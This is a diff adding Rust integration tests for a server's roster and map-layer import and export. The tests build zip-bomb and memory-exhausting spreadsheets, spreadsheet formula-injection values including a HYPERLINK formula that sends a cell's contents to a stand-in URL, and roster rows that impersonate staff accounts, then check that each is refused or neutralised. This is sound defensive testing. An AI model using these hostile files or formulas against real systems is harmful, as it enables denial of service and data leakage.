@@ -1413,3 +1413,337 @@ async fn imports_and_exports_refuse_everyone_but_administrators_and_oversized_fi
         audit_before
     );
 }
+
+// ---- hostile files and hostile rows ------------------------------------------------------
+
+/// The roster template with its first sheet's XML changed by `edit` (the other parts as the
+/// server wrote them), zipped again with fast compression.
+async fn template_with_sheet(
+    s: &TestServer,
+    admin: &str,
+    edit: impl Fn(&str) -> String,
+) -> Vec<u8> {
+    use std::io::{Read, Write};
+    let template = download(s, "/admin/roster/template.xlsx", admin).await;
+    let mut from = zip::ZipArchive::new(std::io::Cursor::new(template)).unwrap();
+    let mut to = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_level(Some(1));
+    for i in 0..from.len() {
+        let mut entry = from.by_index(i).unwrap();
+        let name = entry.name().unwrap().into_owned();
+        let mut text = Vec::new();
+        entry.read_to_end(&mut text).unwrap();
+        if name == "xl/worksheets/sheet1.xml" {
+            text = edit(std::str::from_utf8(&text).unwrap()).into_bytes();
+        }
+        to.start_file(name, options).unwrap();
+        to.write_all(&text).unwrap();
+    }
+    to.finish().unwrap().into_inner()
+}
+
+#[actix_web::test]
+async fn a_small_spreadsheet_that_would_fill_memory_is_refused_and_the_server_keeps_serving() {
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let users_before = s.get("/api/v1/admin/users", &admin).await.body.clone();
+
+    // Two cells, A1 and XFD1048576: a few kilobytes that a whole-sheet grid would turn into
+    // seventeen billion cells.
+    let corners = template_with_sheet(&s, &admin, |xml| {
+        xml.replace(
+            "</sheetData>",
+            r#"<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>"#,
+        )
+        .replace(r#"<dimension ref="A1:G1"/>"#, r#"<dimension ref="A1:XFD1048576"/>"#)
+    })
+    .await;
+    assert!(corners.len() < 64 * 1024, "{} bytes", corners.len());
+    for path in ["/admin/import/roster", "/admin/import/divisions"] {
+        let (status, body) = upload(&s, path, &admin, corners.clone()).await;
+        assert_eq!(
+            (status, body["error"].as_str()),
+            (422, Some("bad_import_file")),
+            "{path}: {body}"
+        );
+        assert!(body["message"].as_str().unwrap().contains("行"), "{body}");
+    }
+
+    // A sheet that unpacks to more than 64 MiB (here, spaces between its rows) is refused by
+    // its unpacked size before anything parses it.
+    let padded = template_with_sheet(&s, &admin, |xml| {
+        xml.replace(
+            "</sheetData>",
+            &(" ".repeat(80 * 1024 * 1024) + "</sheetData>"),
+        )
+    })
+    .await;
+    assert!(padded.len() < 16 * 1024 * 1024, "{} bytes", padded.len());
+    let (status, body) = upload(&s, "/admin/import/roster?dry_run=false", &admin, padded).await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (413, Some("payload_too_large")),
+        "{body}"
+    );
+
+    // The server still answers, and nothing was stored.
+    assert_eq!(
+        s.get("/api/v1/admin/users", &admin).await.body,
+        users_before
+    );
+    // A roster sheet with its header in row 1 and a chief in row 3 still reads, by its
+    // spreadsheet row numbers.
+    let sparse = template_with_sheet(&s, &admin, |xml| {
+        let cells: String = [
+            "王河",
+            "",
+            "街道级",
+            "河长",
+            "桑梓店街道",
+            "",
+            "13900000001",
+        ]
+        .iter()
+        .enumerate()
+        .filter(|(_, v)| !v.is_empty())
+        .map(|(i, v)| {
+            format!(
+                r#"<c r="{}3" t="inlineStr"><is><t>{v}</t></is></c>"#,
+                (b'A' + i as u8) as char
+            )
+        })
+        .collect();
+        xml.replace(
+            "</sheetData>",
+            &format!(r#"<row r="3">{cells}</row></sheetData>"#),
+        )
+    })
+    .await;
+    let (status, dry) = upload(&s, "/admin/import/roster", &admin, sparse).await;
+    assert_eq!(status, 200, "{dry}");
+    assert_eq!(outcomes(&dry), ["create"], "{dry}");
+    assert_eq!(dry["rows"][0]["row"], 3, "{dry}");
+}
+
+#[actix_web::test]
+async fn a_zipped_layer_that_unpacks_to_more_than_the_limit_is_refused_and_nothing_stored() {
+    use std::io::{Read, Write};
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let assets_before = s.get("/api/v1/admin/assets", &admin).await.body.clone();
+    let layer = zipped_shapefile(&[(
+        "炸弹河段",
+        "河长",
+        "桑梓店街道",
+        shapefile::Shape::Polyline(shapefile::Polyline::new(vec![
+            shapefile::Point::new(116.95, 36.73),
+            shapefile::Point::new(116.96, 36.74),
+        ])),
+    )]);
+    // The same layer with its attribute table followed by 80 MiB of zeros, which compress to
+    // almost nothing. The reader used to cut the table at 64 MiB and go on quietly.
+    let mut from = zip::ZipArchive::new(std::io::Cursor::new(layer)).unwrap();
+    let mut to = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_level(Some(1));
+    for i in 0..from.len() {
+        let mut entry = from.by_index(i).unwrap();
+        let name = entry.name().unwrap().into_owned();
+        let mut bytes = Vec::new();
+        entry.read_to_end(&mut bytes).unwrap();
+        if name.ends_with(".dbf") {
+            bytes.resize(bytes.len() + 80 * 1024 * 1024, 0);
+        }
+        to.start_file(name, options).unwrap();
+        to.write_all(&bytes).unwrap();
+    }
+    let bomb = to.finish().unwrap().into_inner();
+    assert!(bomb.len() < 1024 * 1024, "{} bytes", bomb.len());
+    let (status, body) = upload(
+        &s,
+        "/admin/import/assets?crs=wgs84&dry_run=false",
+        &admin,
+        bomb,
+    )
+    .await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (413, Some("payload_too_large")),
+        "{body}"
+    );
+    assert_eq!(
+        s.get("/api/v1/admin/assets", &admin).await.body,
+        assets_before
+    );
+}
+
+#[actix_web::test]
+async fn exported_rosters_never_carry_a_formula_and_read_back_unchanged() {
+    use calamine::Reader;
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let formula = r#"=HYPERLINK("http://example.invalid/?"&A1,"点击")"#;
+    let roster = csv_roster(&[
+        [
+            formula,
+            "+1+1",
+            "街道级",
+            "河长",
+            "桑梓店街道",
+            "",
+            "13900000011",
+        ],
+        [
+            "@SUM(1)",
+            "-2+3",
+            "街道级",
+            "河长",
+            "桑梓店街道",
+            "",
+            "13900000012",
+        ],
+    ]);
+    let (status, applied) = upload(&s, "/admin/import/roster?dry_run=false", &admin, roster).await;
+    assert_eq!(status, 200, "{applied}");
+
+    // CSV: every cell that would start a formula opens as text.
+    let csv = download(&s, "/admin/roster/export?format=csv", &admin).await;
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(&csv[3..]);
+    let mut seen = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula in the CSV export: {cell}"
+            );
+            if cell == format!("'{formula}") || cell == "'@SUM(1)" || cell == "'-2+3" {
+                seen += 1;
+            }
+        }
+    }
+    assert_eq!(seen, 3, "the names and posts are kept as text");
+
+    // XLSX: the cells are text, with no formula anywhere.
+    let xlsx = download(&s, "/admin/roster/export", &admin).await;
+    let mut book = calamine::Xlsx::new(std::io::Cursor::new(xlsx.clone())).unwrap();
+    let formulas = book.worksheet_formula("河长名录").unwrap();
+    assert!(
+        formulas.cells().all(|(_, _, f)| f.is_empty()),
+        "a formula in the XLSX export"
+    );
+    let values = book.worksheet_range("河长名录").unwrap();
+    assert!(values.cells().any(|(_, _, v)| v.to_string() == formula));
+
+    // Both exports read back as they are: nothing changes.
+    for export in [csv, xlsx] {
+        let (status, again) = upload(&s, "/admin/import/roster", &admin, export).await;
+        assert_eq!(status, 200, "{again}");
+        assert!(outcomes(&again).iter().all(|o| o == "unchanged"), "{again}");
+    }
+}
+
+#[actix_web::test]
+async fn a_roster_cannot_make_or_change_an_administrator_supervisor_or_stopped_chief() {
+    let s = TestServer::demo().await;
+    let admin = s.token(ADMIN, "pc").await;
+    let facts = server::demo::facts();
+    let users_before = s.get("/api/v1/admin/users", &admin).await.body.clone();
+    let audit_before = s.get("/api/v1/admin/audit", &admin).await.body.clone();
+    // Rows naming the staff's accounts, in any letter case: each is refused, none becomes a
+    // chief, none is touched.
+    let rows: Vec<[String; 7]> = [ADMIN, SUPERVISOR, HANDLER, "DEMO-ADMIN"]
+        .iter()
+        .map(|who| {
+            [
+                "冒充".into(),
+                "".into(),
+                "街道级".into(),
+                "河长".into(),
+                "桑梓店街道".into(),
+                "".into(),
+                (*who).into(),
+            ]
+        })
+        .collect();
+    let borrowed: Vec<[&str; 7]> = rows
+        .iter()
+        .map(|r| std::array::from_fn(|i| r[i].as_str()))
+        .collect();
+    let roster = csv_roster(&borrowed);
+    let (status, dry) = upload(&s, "/admin/import/roster", &admin, roster.clone()).await;
+    assert_eq!(status, 200, "{dry}");
+    for i in 0..rows.len() {
+        assert_eq!(dry["rows"][i]["outcome"], "refused", "{dry}");
+        assert!(reasons(&dry, i).contains("非河湖林田长账号"), "{dry}");
+    }
+    let (status, body) = upload(&s, "/admin/import/roster?dry_run=false", &admin, roster).await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (422, Some("import_refused"))
+    );
+    assert_eq!(
+        s.get("/api/v1/admin/users", &admin).await.body,
+        users_before
+    );
+    assert_eq!(
+        s.get("/api/v1/admin/audit", &admin).await.body,
+        audit_before
+    );
+
+    // A stopped chief listed again stays stopped and the row says why; the office starts the
+    // account in 人员 (it still holds its old password), after which the row is unchanged.
+    let stopped = facts.user(server::demo::CHIEF_2).unwrap().clone();
+    let exported =
+        String::from_utf8(download(&s, "/admin/roster/export?format=csv", &admin).await).unwrap();
+    let mut lines = exported.lines();
+    let header = lines.next().unwrap().to_owned();
+    let row = lines
+        .find(|l| l.ends_with(&format!(",{}", stopped.username)))
+        .unwrap()
+        .to_owned();
+    let his_row = (header + "\n" + &row + "\n").into_bytes();
+    s.post(
+        &format!("/api/v1/admin/users/{}/deactivate", stopped.id),
+        &admin,
+        json!({}),
+    )
+    .await
+    .expect_ok();
+    let (status, body) = upload(
+        &s,
+        "/admin/import/roster?dry_run=false",
+        &admin,
+        his_row.clone(),
+    )
+    .await;
+    assert_eq!(
+        (status, body["error"].as_str()),
+        (422, Some("import_refused")),
+        "{body}"
+    );
+    let (_, dry) = upload(&s, "/admin/import/roster", &admin, his_row.clone()).await;
+    assert_eq!(outcomes(&dry), ["refused"], "{dry}");
+    assert!(reasons(&dry, 0).contains("已停用"), "{dry}");
+    let record = s
+        .get(&format!("/api/v1/admin/users/{}", stopped.id), &admin)
+        .await;
+    assert_eq!(
+        record.expect_ok()["user"]["active"],
+        false,
+        "{:?}",
+        record.body
+    );
+    s.request(
+        "PATCH",
+        &format!("/api/v1/admin/users/{}", stopped.id),
+        Some(&admin),
+        Some(json!({"active": true})),
+    )
+    .await
+    .expect_ok();
+    let (status, again) = upload(&s, "/admin/import/roster", &admin, his_row).await;
+    assert_eq!(status, 200, "{again}");
+    assert_eq!(outcomes(&again), ["unchanged"], "{again}");
+}
